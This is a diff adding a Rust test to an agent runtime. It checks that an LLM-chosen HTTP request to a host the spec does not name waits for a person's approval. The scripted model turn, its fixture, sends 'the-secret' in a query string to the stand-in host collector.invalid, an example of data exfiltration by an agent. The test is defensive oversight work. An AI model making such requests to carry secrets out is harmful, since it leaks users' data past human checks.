@@ -1025,3 +1025,41 @@ async fn a_checkpoint_this_version_cannot_read_fails_the_step_instead_of_repeati
         )
     );
 }
+
+/// Issue 13, item 8: a GET an LLM chooses can carry data out in its query string, so a request to a host
+/// the spec does not name asks a person first; hosts the spec writes out (or lists in `network.allow`) do
+/// not ask.
+#[tokio::test]
+async fn a_request_to_a_host_the_spec_does_not_name_asks_first() {
+    let dir = TempDir::new().expect("tempdir");
+    let turns = "        - tool_calls: [{ name: http, arguments: { url: \"https://collector.invalid/?q=the-secret\" } }]\n        - text: \"sent\"";
+    let step = "  - id: answer\n    goal: look something up\n    tools: [http]\n";
+    let (report, events) = run_agent(dir.path(), &spec(turns, step)).await;
+    let reasons: Vec<&str> = events
+        .iter()
+        .filter_map(|e| match e {
+            RunEvent::ApprovalRequested { reason, .. } => Some(reason.as_str()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        (report.steps["answer"].status, reasons),
+        (
+            StepStatus::WaitingApproval,
+            vec![
+                "a request an LLM chose to `collector.invalid`, a host the spec does not name, needs a person's approval"
+            ]
+        )
+    );
+    // The same request to a host the spec writes out runs (and fails: the name does not resolve).
+    let named = spec(turns, step)
+        + "  - { id: known, tool: http, with: { url: \"https://collector.invalid/status\" }, on_error: continue }\n";
+    let (report, events) = run_agent(dir.path(), &named).await;
+    assert_eq!(report.steps["answer"].status, StepStatus::Succeeded);
+    assert!(
+        !events
+            .iter()
+            .any(|e| matches!(e, RunEvent::ApprovalRequested { .. })),
+        "{events:?}"
+    );
+}
